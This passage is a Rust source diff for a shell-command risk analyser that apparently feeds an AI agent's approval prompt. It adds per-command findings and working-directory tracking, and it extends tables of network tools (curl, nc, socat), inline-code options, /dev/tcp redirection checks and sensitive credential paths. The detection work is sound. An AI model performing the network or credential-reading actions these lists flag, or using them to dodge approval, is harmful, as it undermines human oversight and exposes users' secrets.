@@ -36,12 +36,40 @@ pub enum Danger {
     OutsideCwd,
 }
 
+/// One reason a command asks: its category, the words, and (for `OutsideCwd`) the path.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Finding {
+    pub danger: Danger,
+    pub reason: String,
+    /// The path a write or a working directory names, relative to the tool's working directory
+    /// or absolute or `~/…`; the tool resolves it against the roots (inside: nothing to ask;
+    /// outside: the directory rule).
+    pub path: Option<String>,
+    /// Index into `CommandAnalysis::commands` of the simple command it was found in.
+    pub command: Option<usize>,
+    /// The finding does not hold when this program exists (relative to the tool's working
+    /// directory or one of its parents inside the root): `npx tsc` with `node_modules/.bin/tsc`.
+    pub local_bin: Option<String>,
+}
+
+/// A simple command the parser found (after quotes, escapes and known variables are applied).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SimpleCommand {
+    pub argv: Vec<String>,
+    /// Sorted, deduplicated categories found in this command alone.
+    pub dangers: Vec<Danger>,
+}
+
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct CommandAnalysis {
     /// Sorted, deduplicated.
     pub dangers: Vec<Danger>,
     /// Human-readable reasons, one per finding, for the approval prompt (already made visible).
     pub reasons: Vec<String>,
+    /// Every finding, in order (`dangers` and `reasons` are derived from these).
+    pub findings: Vec<Finding>,
+    /// The simple commands, in order.
+    pub commands: Vec<SimpleCommand>,
     /// Words naming sensitive locations (~/.ssh, ~/.aws, ~/.gnupg, keys, credentials, .tradewind, …).
     pub sensitive_mentions: Vec<String>,
     /// Words naming a hard-denied path (`lists::names_hard_denied_path`): the command is denied,
@@ -56,14 +84,60 @@ impl CommandAnalysis {
     pub fn never_loosens(&self) -> bool {
         !self.dangers.is_empty()
     }
+
+    /// Take out the `OutsideCwd` findings that name a path, returning those paths: the caller
+    /// resolves them against the roots, so a path inside a root asks nothing and one outside
+    /// takes the directory rule (asked per directory, grantable) instead of a command-wide ask.
+    pub fn take_outside_paths(&mut self) -> Vec<String> {
+        let mut paths = Vec::new();
+        self.findings.retain(|f| match (&f.danger, &f.path) {
+            (Danger::OutsideCwd, Some(p)) => {
+                if !paths.contains(p) {
+                    paths.push(p.clone());
+                }
+                false
+            }
+            _ => true,
+        });
+        self.derive();
+        paths
+    }
+
+    /// Drop the findings whose local program exists (`exists` answers for a path relative to
+    /// the tool's working directory).
+    pub fn settle_local_bins(&mut self, exists: impl Fn(&str) -> bool) {
+        self.findings
+            .retain(|f| f.local_bin.as_deref().is_none_or(|b| !exists(b)));
+        self.derive();
+    }
+
+    fn derive(&mut self) {
+        let set: BTreeSet<Danger> = self.findings.iter().map(|f| f.danger).collect();
+        self.dangers = set.into_iter().collect();
+        self.reasons.clear();
+        for f in &self.findings {
+            if !self.reasons.contains(&f.reason) {
+                self.reasons.push(f.reason.clone());
+            }
+        }
+        for (k, c) in self.commands.iter_mut().enumerate() {
+            let set: BTreeSet<Danger> = self
+                .findings
+                .iter()
+                .filter(|f| f.command == Some(k))
+                .map(|f| f.danger)
+                .collect();
+            c.dangers = set.into_iter().collect();
+        }
+    }
 }
 
 /// Classify a shell command line (what the `shell` tool runs with `sh -c`).
 pub fn analyze_shell(command: &str) -> CommandAnalysis {
     let mut a = Acc::default();
-    a.controls(command);
+    a.controls(&command.replace('\n', " "));
     a.mentions(command);
-    shell_into(command, &mut a, 0);
+    crate::shell::analyze(command, &mut a, 0);
     a.finish()
 }
 
@@ -75,7 +149,10 @@ pub fn analyze_argv(argv: &[String]) -> CommandAnalysis {
         a.controls(x);
         a.mentions(x);
     }
-    classify(argv, &mut a, 0);
+    if !argv.is_empty() {
+        a.begin(argv);
+        classify(argv, &mut a, 0);
+    }
     a.finish()
 }
 
@@ -96,11 +173,10 @@ pub fn visible(command: &str) -> String {
     out
 }
 
-const MAX_DEPTH: u8 = 4;
+pub(crate) const MAX_DEPTH: u8 = 4;
 const MAX_REASONS: usize = 64;
 const MAX_MENTIONS: usize = 32;
-const UNBALANCED: &str = "it has an unbalanced quote, bracket or substitution";
-const NO_TARGET: &str = "a redirection has no target";
+const MAX_COMMANDS: usize = 256;
 
 #[rustfmt::skip]
 fn is_invisible(c: char) -> bool {
@@ -112,7 +188,7 @@ fn is_invisible(c: char) -> bool {
 }
 
 /// Quote a fragment for a reason: visible, backticked, truncated.
-fn q(s: &str) -> String {
+pub(crate) fn q(s: &str) -> String {
     let t: String = s.chars().take(60).collect();
     let more = if s.chars().nth(60).is_some() {
         "…"
@@ -122,31 +198,108 @@ fn q(s: &str) -> String {
     format!("`{}{more}`", visible(&t))
 }
 
-#[derive(Default)]
-struct Acc {
-    dangers: BTreeSet<Danger>,
-    reasons: Vec<String>,
+pub(crate) struct Acc {
+    pub(crate) findings: Vec<Finding>,
+    commands: Vec<SimpleCommand>,
     mentions: Vec<String>,
     denied: Vec<String>,
     control: bool,
+    /// The simple command being classified.
+    cur: Option<usize>,
+    /// The working directory relative to the tool's (`cd src && …`); `None`: known only at run time.
+    pub(crate) cwd: Option<String>,
+    /// Where the command being classified reads its input from.
+    pub(crate) stdin: crate::shell::Stdin,
+}
+
+impl Default for Acc {
+    fn default() -> Self {
+        Acc {
+            findings: Vec::new(),
+            commands: Vec::new(),
+            mentions: Vec::new(),
+            denied: Vec::new(),
+            control: false,
+            cur: None,
+            cwd: Some(String::new()),
+            stdin: crate::shell::Stdin::Inherit,
+        }
+    }
 }
 
 impl Acc {
-    fn flag(&mut self, d: Danger, why: impl Into<String>) {
-        let why = why.into();
-        let new = self.dangers.insert(d);
-        if (new || self.reasons.len() < MAX_REASONS) && !self.reasons.contains(&why) {
-            self.reasons.push(why);
+    pub(crate) fn flag(&mut self, d: Danger, why: impl Into<String>) {
+        self.push(d, why.into(), None);
+    }
+    fn push(&mut self, danger: Danger, reason: String, path: Option<String>) {
+        let seen = self
+            .findings
+            .iter()
+            .any(|f| f.danger == danger && f.reason == reason && f.command == self.cur);
+        if seen
+            || (self.findings.len() >= MAX_REASONS
+                && self.findings.iter().any(|f| f.danger == danger))
+        {
+            return;
+        }
+        self.findings.push(Finding {
+            danger,
+            reason,
+            path,
+            command: self.cur,
+            local_bin: None,
+        });
+    }
+    /// Start a new simple command.
+    pub(crate) fn begin(&mut self, argv: &[String]) {
+        if self.commands.len() < MAX_COMMANDS {
+            self.commands.push(SimpleCommand {
+                argv: argv.iter().map(|x| visible(x)).collect(),
+                dangers: Vec::new(),
+            });
+            self.cur = Some(self.commands.len() - 1);
+        } else {
+            self.cur = None;
         }
     }
-    fn controls(&mut self, s: &str) {
+    /// A path as seen from the tool's working directory (`None`: the current directory is only
+    /// known at run time).
+    fn at(&self, p: &str) -> Option<String> {
+        if p.starts_with('/') || p.starts_with('~') {
+            return Some(p.to_string());
+        }
+        let cwd = self.cwd.as_deref()?;
+        Some(if cwd.is_empty() {
+            p.to_string()
+        } else {
+            format!("{cwd}/{p}")
+        })
+    }
+    /// A finding about a path the command writes to or works in, outside the working directory.
+    fn outside_path(&mut self, who: &str, verb: &str, p: &str) {
+        match self.at(p) {
+            Some(full) if outside(&full) => {
+                let why = format!("{who} {verb} {}, outside the working directory", q(p));
+                self.push(Danger::OutsideCwd, why, Some(full));
+            }
+            Some(_) => {}
+            None => {
+                let why = format!(
+                    "{who} {verb} {} in a directory known only at run time",
+                    q(p)
+                );
+                self.flag(Danger::OutsideCwd, why);
+            }
+        }
+    }
+    pub(crate) fn controls(&mut self, s: &str) {
         if s.chars().any(is_invisible) {
             self.control = true;
             let why = "it contains control or invisible characters (shown as ⏎, ␛ or <U+…>)";
             self.flag(Danger::Opaque, why);
         }
     }
-    fn mentions(&mut self, s: &str) {
+    pub(crate) fn mentions(&mut self, s: &str) {
         for piece in s.split(|c: char| c.is_whitespace() || "'\"=;|&<>()`,:".contains(c)) {
             if self.mentions.len() >= MAX_MENTIONS {
                 return;
@@ -164,13 +317,17 @@ impl Acc {
         }
     }
     fn finish(self) -> CommandAnalysis {
-        CommandAnalysis {
-            dangers: self.dangers.into_iter().collect(),
-            reasons: self.reasons,
+        let mut out = CommandAnalysis {
+            dangers: Vec::new(),
+            reasons: Vec::new(),
+            findings: self.findings,
+            commands: self.commands,
             sensitive_mentions: self.mentions,
             hard_denied: self.denied,
             has_control_chars: self.control,
-        }
+        };
+        out.derive();
+        out
     }
 }
 
@@ -181,253 +338,6 @@ fn sensitive(c: &str) -> bool {
         || ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"].iter().any(|k| c.starts_with(k))
         || c.contains("credentials")
         || [".pem", ".key", ".p12", ".pfx"].iter().any(|e| c.ends_with(e))
-}
-
-// ------------------------------------------------------------------------------- shell lexer
-
-#[derive(Default)]
-struct Word {
-    text: String,
-    quoted: bool,
-    glob: bool,
-    unknown: bool,
-    assign: bool,
-}
-
-struct Lexer<'a> {
-    a: &'a mut Acc,
-    depth: u8,
-    segs: Vec<Vec<Word>>,
-    cur: Vec<Word>,
-    w: Word,
-    in_word: bool,
-    /// The next word is a redirection target: `>` output, `&` fd duplication, `<` input.
-    pending: Option<char>,
-}
-
-fn shell_into(src: &str, a: &mut Acc, depth: u8) {
-    let cs: Vec<char> = src.chars().collect();
-    let (segs, cur, w) = (Vec::new(), Vec::new(), Word::default());
-    let mut lx = Lexer {
-        a,
-        depth,
-        segs,
-        cur,
-        w,
-        in_word: false,
-        pending: None,
-    };
-    lx.run(&cs);
-    let Lexer { a, segs, .. } = lx;
-    for seg in &segs {
-        let k = seg.iter().take_while(|w| w.assign).count();
-        for w in seg.iter().take(k) {
-            let name = w.text.split('=').next().unwrap_or_default();
-            let why = format!(
-                "it sets {} for the command, which can change what runs",
-                q(name)
-            );
-            a.flag(Danger::Opaque, why);
-        }
-        let Some(first) = seg.get(k) else { continue };
-        let glob = first.glob && first.text != "["; // a lone `[` (test) matches nothing
-        if first.unknown || glob || (first.text.starts_with('~') && !first.quoted) {
-            let why = format!(
-                "the program name {} comes from an expansion",
-                q(&first.text)
-            );
-            a.flag(Danger::Opaque, why);
-        }
-        let argv: Vec<String> = seg.iter().skip(k).map(|w| w.text.clone()).collect();
-        classify(&argv, a, depth);
-    }
-}
-
-fn find(cs: &[char], from: usize, ch: char) -> Option<usize> {
-    cs.get(from..)?
-        .iter()
-        .position(|&x| x == ch)
-        .map(|p| p + from)
-}
-
-fn text(cs: &[char], from: usize, to: usize) -> String {
-    cs.get(from..to).unwrap_or_default().iter().collect()
-}
-
-fn is_name(s: &str) -> bool {
-    let mut it = s.chars();
-    it.next()
-        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
-        && it.all(|c| c == '_' || c.is_ascii_alphanumeric())
-}
-
-#[rustfmt::skip]
-impl Lexer<'_> {
-    fn push(&mut self, c: char) { self.in_word = true; self.w.text.push(c); }
-    fn mark(&mut self, s: &str) { self.in_word = true; self.w.unknown = true; self.w.text.push_str(s); }
-    fn opaque(&mut self, why: &str) { self.a.flag(Danger::Opaque, why); }
-    fn word(&mut self) {
-        if !std::mem::take(&mut self.in_word) { return; }
-        let w = std::mem::take(&mut self.w);
-        self.a.mentions(&w.text);
-        let t = w.text.as_str();
-        let ok = match self.pending.take() {
-            None => { self.cur.push(w); return; }
-            Some('<') => true,
-            Some('&') => t == "-" || (!t.is_empty() && t.chars().all(|c| c.is_ascii_digit())),
-            Some(_) => matches!(t, "/dev/null" | "/dev/stdout" | "/dev/stderr"),
-        };
-        if t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/") {
-            self.a.flag(Danger::Network, format!("the redirection to {} reaches the network", q(t)));
-        }
-        if !ok {
-            self.a.flag(Danger::Opaque, format!("it redirects output to the file {}", q(t)));
-            write_checks(self.a, "the redirection", t);
-        }
-    }
-    fn segment(&mut self) {
-        self.word();
-        if self.pending.take().is_some() { self.opaque(NO_TARGET); }
-        if !self.cur.is_empty() { self.segs.push(std::mem::take(&mut self.cur)); }
-    }
-    fn run(&mut self, cs: &[char]) {
-        let (mut i, mut dq) = (0, false);
-        while let Some(&c) = cs.get(i) {
-            i += 1;
-            if dq {
-                match c {
-                    '"' => dq = false,
-                    '\\' => match cs.get(i) {
-                        Some(&n) if "$`\"\\".contains(n) => { self.push(n); i += 1; }
-                        Some(&'\n') => i += 1,
-                        _ => self.push('\\'),
-                    },
-                    '`' => i = self.backtick(cs, i),
-                    '$' => i = self.dollar(cs, i, true),
-                    _ => self.push(c),
-                }
-                continue;
-            }
-            match c {
-                ' ' | '\t' => self.word(),
-                '\n' | ';' | '&' | '|' | '(' | ')' => {
-                    self.opaque("it chains commands or opens a subshell (`;` `&&` `||` `|` `&` `( )` or a newline)");
-                    self.segment();
-                }
-                '\'' => {
-                    self.in_word = true;
-                    self.w.quoted = true;
-                    let Some(j) = find(cs, i, '\'') else { self.opaque(UNBALANCED); break };
-                    self.w.text.push_str(&text(cs, i, j));
-                    i = j + 1;
-                }
-                '"' => { self.in_word = true; self.w.quoted = true; dq = true; }
-                '\\' => match cs.get(i) {
-                    None => self.opaque("it ends with a dangling backslash"),
-                    Some(&'\n') => i += 1,
-                    Some(&n) => { self.w.quoted = true; self.push(n); i += 1; }
-                },
-                '#' if !self.in_word => while cs.get(i).is_some_and(|&x| x != '\n') { i += 1 },
-                '`' => i = self.backtick(cs, i),
-                '$' => i = self.dollar(cs, i, false),
-                '<' | '>' => i = self.redirect(cs, i, c),
-                '{' | '}' => { self.opaque("it uses braces `{ }` (grouping or brace expansion)"); self.push(c); }
-                '*' | '?' | '[' => { self.w.glob = true; self.push(c); }
-                '=' => { self.w.assign |= !self.w.quoted && !self.w.unknown && is_name(&self.w.text); self.push(c); }
-                _ => self.push(c),
-            }
-        }
-        if dq { self.opaque(UNBALANCED); }
-        self.segment();
-    }
-    /// `i` points just after `$`.
-    fn dollar(&mut self, cs: &[char], i: usize, dq: bool) -> usize {
-        match cs.get(i) {
-            Some(&'(') => self.subst(cs, i + 1, "it uses command substitution `$( )`"),
-            Some(&'{') => match find(cs, i + 1, '}') {
-                Some(j) => { self.var(&text(cs, i + 1, j)); j + 1 }
-                None => { self.opaque(UNBALANCED); cs.len() }
-            },
-            Some(&'\'') if !dq => {
-                self.opaque("it uses ANSI-C quoting `$'…'`, which can hide any character");
-                self.mark("$'…'");
-                let mut j = i + 1;
-                while let Some(&c) = cs.get(j) {
-                    if c == '\'' { return j + 1; }
-                    j += if c == '\\' { 2 } else { 1 };
-                }
-                self.opaque(UNBALANCED);
-                cs.len()
-            }
-            Some(&'"') if !dq => { self.opaque("it uses locale quoting `$\"…\"`"); i }
-            Some(&c) if c == '_' || c.is_ascii_alphabetic() => {
-                let mut j = i;
-                while cs.get(j).is_some_and(|c| *c == '_' || c.is_ascii_alphanumeric()) { j += 1; }
-                self.var(&text(cs, i, j));
-                j
-            }
-            Some(&c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => { self.var(&c.to_string()); i + 1 }
-            _ => { self.push('$'); i }
-        }
-    }
-    fn var(&mut self, name: &str) {
-        if name == "HOME" { self.push('~'); return; }
-        self.a.flag(Danger::Opaque, format!("it expands the variable {}", q(&format!("${name}"))));
-        self.mark(&format!("${name}"));
-    }
-    /// `from` points just after the opening `(`.
-    fn subst(&mut self, cs: &[char], from: usize, why: &str) -> usize {
-        self.opaque(why);
-        self.mark("$(…)");
-        let (mut d, mut j) = (1usize, from);
-        while let Some(&c) = cs.get(j) {
-            match c {
-                '\\' => j += 1,
-                '\'' => j = find(cs, j + 1, '\'').unwrap_or(cs.len()),
-                '(' => d += 1,
-                ')' if d == 1 => { self.inner(cs, from, j); return j + 1; }
-                ')' => d -= 1,
-                _ => {}
-            }
-            j += 1;
-        }
-        self.opaque(UNBALANCED);
-        cs.len()
-    }
-    /// `i` points just after the opening backtick.
-    fn backtick(&mut self, cs: &[char], i: usize) -> usize {
-        self.opaque("it uses backtick command substitution");
-        self.mark("`…`");
-        let mut j = i;
-        while let Some(&c) = cs.get(j) {
-            if c == '`' { self.inner(cs, i, j); return j + 1; }
-            j += if c == '\\' { 2 } else { 1 };
-        }
-        self.opaque(UNBALANCED);
-        cs.len()
-    }
-    /// Best-effort look inside a substitution, so the prompt can say what it would do.
-    fn inner(&mut self, cs: &[char], from: usize, to: usize) {
-        if self.depth < MAX_DEPTH { shell_into(&text(cs, from, to), self.a, self.depth + 1); }
-    }
-    /// `i` points just after `<` or `>`.
-    fn redirect(&mut self, cs: &[char], mut i: usize, c: char) -> usize {
-        let w = &self.w;
-        if self.in_word && !w.quoted && !w.text.is_empty() && w.text.chars().all(|d| d.is_ascii_digit()) {
-            self.w = Word::default(); // `2>`: the digits are a file descriptor, not a word
-            self.in_word = false;
-        } else {
-            self.word();
-        }
-        if self.pending.take().is_some() { self.opaque(NO_TARGET); }
-        let next = cs.get(i).copied();
-        if next == Some('(') { return self.subst(cs, i + 1, "it uses process substitution `<( )`"); }
-        if c == '<' && next == Some('<') { self.opaque("it uses a here-document or here-string"); }
-        let kind = match (c, next) { ('<', Some('>')) => '>', (_, Some('&')) => '&', _ => c };
-        if next.is_some_and(|n| "<>|&".contains(n)) { i += 1; }
-        self.pending = Some(kind);
-        i
-    }
 }
 
 // ------------------------------------------------------------------------------- tables
@@ -442,13 +352,20 @@ const WRAPPERS: &[(&str, &[&str])] = &[ // program, its options that take a valu
     ("run0", &["-u", "--user", "-g", "--group", "-D", "--chdir", "--unit", "--property", "--description", "--slice", "--nice", "--setenv", "--machine"]),
     ("env", &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"]),
     ("xargs", &["-I", "-n", "-L", "-P", "-d", "-E", "-s", "-a", "--arg-file", "--delimiter", "--max-args", "--max-procs", "--max-lines", "--replace", "--eof", "--max-chars", "--process-slot-var"]),
+    ("prlimit", &["-p", "--pid", "-o", "--output"]), ("setarch", &[]), ("linux32", &[]), ("linux64", &[]), ("i386", &[]), ("x86_64", &[]),
+    ("ssh-agent", &["-a", "-E", "-t", "-P", "-O"]), ("chrt", &[]), ("taskset", &[]), ("setsid", &[]), ("eatmydata", &[]),
+    ("unshare", &["-S", "--setuid", "-G", "--setgid", "-R", "--root", "-w", "--wd", "--propagation", "--map-user", "--map-group"]),
+    ("catchsegv", &[]), ("dbus-run-session", &["--config-file", "--dbus-daemon"]), ("systemd-inhibit", &["--what", "--who", "--why", "--mode"]),
+    ("caffeinate", &["-t", "-w"]), ("chronic", &[]), ("cpulimit", &["-l", "--limit", "-p", "--pid", "-e", "--exe"]), ("nocache", &[]),
+    ("fakeroot", &["-l", "--lib", "--faked", "-s", "-i"]), ("trickle", &["-u", "-d", "-w", "-t", "-l", "-n"]), ("unbuffer", &[]),
+    ("builtin", &[]), ("noglob", &[]), ("nocorrect", &[]), ("runcon", &["-u", "-r", "-t", "-l", "--user", "--role", "--type", "--range"]),
 ];
 #[rustfmt::skip]
 const NET: &[&str] = &["curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "tftp", "aria2c", "axel", "http", "https", "xh", "mosh", "sshpass", "torsocks", "proxychains", "nmap", "ping", "dig", "nslookup", "host", "whois", "traceroute", "tracepath", "mtr", "gh", "glab", "hub", "aws", "gcloud", "gsutil", "az", "ngrok", "cloudflared", "tailscale", "websocat", "wscat", "ssh-copy-id", "ssh-keyscan", "mail", "sendmail", "mutt", "svn", "ollama", "kubectl", "helm", "terraform", "ansible", "ansible-playbook", "twine", "yt-dlp", "youtube-dl", "httpd"];
 #[rustfmt::skip]
 const ADMIN: &[&str] = &["su", "runuser", "chroot", "sudoedit", "visudo", "passwd", "chpasswd", "useradd", "usermod", "userdel", "groupadd", "groupmod", "groupdel", "adduser", "deluser", "gpasswd", "setcap", "mount", "umount", "modprobe", "insmod", "rmmod", "sysctl", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "reboot", "shutdown", "poweroff", "halt", "init", "telinit", "fdisk", "sfdisk", "parted", "swapon", "swapoff", "losetup", "cryptsetup", "dmsetup", "service", "newgrp", "sg"];
 #[rustfmt::skip]
-const OPAQUE_PROGS: &[&str] = &["eval", "source", ".", "alias", "unalias", "trap", "set", "shopt", "export", "declare", "typeset", "readonly", "local", "builtin", "enable", "hash", "fc", "coproc", "function", "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "select", "!", "{", "}", "[[", "]]", "parallel", "watch", "flock", "script", "expect", "strace", "ltrace", "gdb", "lldb", "valgrind", "perf", "setsid", "unshare", "nsenter", "firejail", "bwrap", "systemd-run", "entr", "nix-shell", "direnv", "unbuffer", "taskset", "chrt", "tmux", "screen", "dbus-launch", "xvfb-run", "faketime", "chpst", "at", "batch", "docker", "podman", "nerdctl"];
+const OPAQUE_PROGS: &[&str] = &["eval", "alias", "unalias", "trap", "set", "shopt", "export", "declare", "typeset", "readonly", "local", "builtin", "enable", "hash", "fc", "coproc", "function", "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac", "in", "select", "!", "{", "}", "[[", "]]", "parallel", "watch", "hyperfine", "watchexec", "concurrently", "nodemon", "flock", "script", "expect", "strace", "ltrace", "gdb", "lldb", "valgrind", "perf", "nsenter", "firejail", "bwrap", "systemd-run", "entr", "nix-shell", "direnv", "tmux", "screen", "dbus-launch", "xvfb-run", "faketime", "chpst", "at", "batch", "docker", "podman", "nerdctl"];
 #[rustfmt::skip]
 const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "mksh", "fish", "tcsh", "csh", "ash", "yash", "rbash", "posh"];
 /// Programs that only read or print: no URL, startup-file or directory-flag findings for them.
@@ -463,7 +380,9 @@ const DIR_OPTS: &[&str] = &["-C", "--directory", "--cwd", "--prefix", "--dir", "
 const URLS: &[&str] = &["http://", "https://", "ftp://", "ftps://", "ssh://", "sftp://", "scp://", "git://", "rsync://", "ws://", "wss://", "telnet://", "s3://", "gs://", "tftp://", "dict://", "gopher://", "smb://", "ldap://"];
 /// Options of package managers that take a value before the verb.
 #[rustfmt::skip]
-const PM_VALS: &[&str] = &["-C", "--prefix", "--cwd", "--dir", "--color", "--config", "-Z", "--filter", "-F", "-w", "--workspace", "--registry", "--directory", "--project", "--loglevel"];
+const PM_VALS: &[&str] = &["-C", "--prefix", "--cwd", "--dir", "--color", "--config", "-Z", "--filter", "-F", "-w", "--workspace", "--registry", "--directory", "--project", "--loglevel",
+    "--cache-dir", "--log", "--log-file", "--proxy", "--retries", "--timeout", "--exists-action", "--trusted-host", "--cert", "--client-cert", "--python", "--use-feature", "--use-deprecated",
+    "--src", "--target", "-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--manifest-path", "--lockfile", "--userconfig", "--globalconfig", "--cache", "--modules-folder", "--mutex", "--network-timeout"];
 #[rustfmt::skip]
 const YUM: &[&str] = &["install", "reinstall", "upgrade", "update", "groupinstall", "localinstall", "downgrade", "distro-sync", "swap"];
 #[rustfmt::skip]
@@ -503,7 +422,7 @@ const NET_VERBS: &[(&str, &[&str])] = &[
 /// Options that make a program run inline code or another program (`opt` or `opt=…`).
 #[rustfmt::skip]
 const INLINE: &[(&[&str], &[&str])] = &[
-    (&["node", "nodejs", "deno", "bun"], &["-e", "--eval", "-p", "--print", "eval"]),
+    (&["node", "nodejs", "deno", "bun"], &["-e", "--eval", "-p", "--print", "eval", "--import", "--loader", "--experimental-loader", "--require", "-r", "--env-file"]),
     (&["vi", "vim", "nvim", "view", "ex", "vimdiff", "rvim"], &["-c", "--cmd", "-S", "-s"]),
     (&["emacs"], &["--eval", "-l", "--load", "-f", "--funcall", "--script", "-batch", "--batch", "-x"]),
     (&["awk", "gawk", "mawk", "nawk"], &["-i", "--include", "-l", "--load"]),
@@ -514,7 +433,7 @@ const INLINE: &[(&[&str], &[&str])] = &[
 ];
 /// Single-letter options, also inside clusters like `-pie`, that take inline code.
 #[rustfmt::skip]
-const INLINE_SHORT: &[(&str, &str)] = &[("perl", "eE"), ("ruby", "e"), ("lua", "e"), ("luajit", "e"), ("rscript", "e"), ("osascript", "e"), ("php", "rR"), ("rsync", "e")];
+const INLINE_SHORT: &[(&str, &str)] = &[("perl", "eEMmx"), ("ruby", "erx"), ("lua", "el"), ("luajit", "el"), ("rscript", "e"), ("osascript", "e"), ("php", "rRBE"), ("rsync", "e"), ("tar", "IF"), ("node", "epr"), ("nodejs", "epr"), ("bun", "ep")];
 #[rustfmt::skip]
 const SAFE_DEV: &[&str] = &["/dev/null", "/dev/zero", "/dev/random", "/dev/urandom", "/dev/stdin", "/dev/stdout", "/dev/stderr"];
 
@@ -530,6 +449,30 @@ fn short_has(x: &str, letters: &str) -> bool {
     r.is_some_and(|r| !r.starts_with('-') && r.chars().any(|c| letters.contains(c)))
 }
 
+/// Is `x` one of the options in `vals` given without its value attached (long ones possibly
+/// abbreviated: `--sig` is `--signal`)?
+fn takes_value(x: &str, vals: &[&str]) -> bool {
+    if x.starts_with("--") {
+        !x.contains('=') && vals.iter().any(|v| v.starts_with("--") && long_is(x, v))
+    } else {
+        vals.contains(&x)
+    }
+}
+
+/// Does `x` give one of the options in `list`: a long one (possibly abbreviated, possibly
+/// `=value`), or a short one alone, with `=value`, or with its value attached (`-Igzip`)?
+fn opt_in(x: &str, list: &[&str]) -> bool {
+    list.iter().any(|o| {
+        if o.starts_with("--") {
+            long_is(x, o)
+        } else if o.starts_with('-') && !x.starts_with("--") {
+            x == *o || (o.len() == 2 && x.starts_with(o))
+        } else {
+            x == *o || x.strip_prefix(o).is_some_and(|r| r.starts_with('='))
+        }
+    })
+}
+
 /// Index of the first operand, skipping options (and the values of those in `vals`) and `--`.
 fn next_operand(args: &[String], vals: &[&str]) -> Option<usize> {
     let mut k = 0;
@@ -540,7 +483,7 @@ fn next_operand(args: &[String], vals: &[&str]) -> Option<usize> {
         if x.len() < 2 || !x.starts_with('-') {
             return Some(k);
         }
-        k += if vals.contains(&x.as_str()) { 2 } else { 1 };
+        k += if takes_value(x, vals) { 2 } else { 1 };
     }
     None
 }
@@ -587,24 +530,141 @@ fn boot(p: &str) -> bool {
     crate::lists::is_startup_location(p)
 }
 
-fn write_checks(a: &mut Acc, who: &str, t: &str) {
-    if outside(t) {
-        let why = format!("{who} writes to {}, outside the working directory", q(t));
-        a.flag(Danger::OutsideCwd, why);
-    }
-    if boot(t) {
+pub(crate) fn write_checks(a: &mut Acc, who: &str, t: &str) {
+    a.outside_path(who, "writes to", t);
+    let full = a.at(t).unwrap_or_else(|| t.to_string());
+    if boot(&full) {
         a.flag(
             Danger::BootAutostart,
             format!("{who} touches the startup file {}", q(t)),
         );
     }
-    let l = t.to_lowercase();
+    let l = full.to_lowercase();
     if l.contains(".git/hooks") || l.ends_with(".git/config") || l.contains(".husky/") {
         a.flag(
             Danger::Opaque,
             format!("{who} writes {}, which git runs or reads later", q(t)),
         );
     }
+}
+
+/// A simple command from the parser: the program name must be known, then it is classified.
+pub(crate) fn simple(
+    a: &mut Acc,
+    words: &[crate::shell::Word],
+    stdin: &crate::shell::Stdin,
+    depth: u8,
+) {
+    if a.commands.len() >= MAX_COMMANDS {
+        a.cur = None;
+        a.flag(Danger::Opaque, "it has too many commands to analyse");
+        return;
+    }
+    let argv: Vec<String> = words.iter().map(|w| w.text.clone()).collect();
+    a.begin(&argv);
+    let Some(first) = words.first() else { return };
+    let glob = first.glob && first.text != "["; // a lone `[` (test) matches nothing
+    if first.unknown || glob || (first.text.starts_with('~') && !first.quoted) {
+        let why = format!(
+            "the program name {} is known only at run time",
+            q(&first.text)
+        );
+        a.flag(Danger::Opaque, why);
+    }
+    if !first.text.is_ascii() {
+        let why = format!(
+            "the program name {} has non-ASCII characters, which can look like another program's",
+            q(&first.text)
+        );
+        a.flag(Danger::Opaque, why);
+    }
+    if !first.unknown
+        && first
+            .text
+            .chars()
+            .any(|c| !(c.is_alphanumeric() || "._+-/~:@%,=[".contains(c)))
+    {
+        let why = format!(
+            "the program name {} has characters no ordinary program name has",
+            q(&first.text)
+        );
+        a.flag(Danger::Opaque, why);
+    }
+    let n = prog_name(&first.text);
+    let sed_i = n == "sed"
+        && argv
+            .iter()
+            .any(|x| long_is(x, "--in-place") || short_has(x, "i"));
+    if let Some(w) = words
+        .iter()
+        .skip(1)
+        .find(|w| w.unknown && !w.text.starts_with('-'))
+    {
+        if WRITERS.contains(&n.as_str()) || sed_i {
+            let why = format!(
+                "{} writes to {}, a path known only at run time",
+                q(&n),
+                q(&w.text)
+            );
+            a.flag(Danger::OutsideCwd, why);
+        }
+        if matches!(n.as_str(), "cd" | "pushd" | "chdir") {
+            a.flag(
+                Danger::OutsideCwd,
+                format!("`cd` to {}, known only at run time", q(&w.text)),
+            );
+            a.cwd = None;
+            return;
+        }
+    }
+    a.stdin = stdin.clone();
+    classify(&argv, a, depth);
+    a.stdin = crate::shell::Stdin::Inherit;
+}
+
+/// `cd DIR` moves the working directory of the commands after it.
+fn cd(args: &[String], a: &mut Acc) {
+    let target = first_pos(args, &[]);
+    match target {
+        None | Some("-") => {
+            a.flag(Danger::OutsideCwd, "`cd` leaves the working directory");
+            a.cwd = None;
+        }
+        Some(t) => {
+            a.outside_path("`cd`", "goes to", t);
+            a.cwd = a.at(t).map(|full| {
+                if outside(&full) && !full.starts_with(['/', '~']) {
+                    full
+                } else {
+                    normalize(&full)
+                }
+            });
+        }
+    }
+}
+
+/// Fold `.` and `..` of a relative path that does not leave its start.
+fn normalize(p: &str) -> String {
+    let mut out: Vec<&str> = Vec::new();
+    for c in p.split('/') {
+        match c {
+            "" | "." => {}
+            ".." => {
+                out.pop();
+            }
+            c => out.push(c),
+        }
+    }
+    let lead = if p.starts_with('/') { "/" } else { "" };
+    format!("{lead}{}", out.join("/"))
+}
+
+/// A long option, possibly abbreviated (GNU getopt accepts any unique prefix, so `--rec` is
+/// `--recursive`) and possibly with `=value`. At least two letters after `--` must be given;
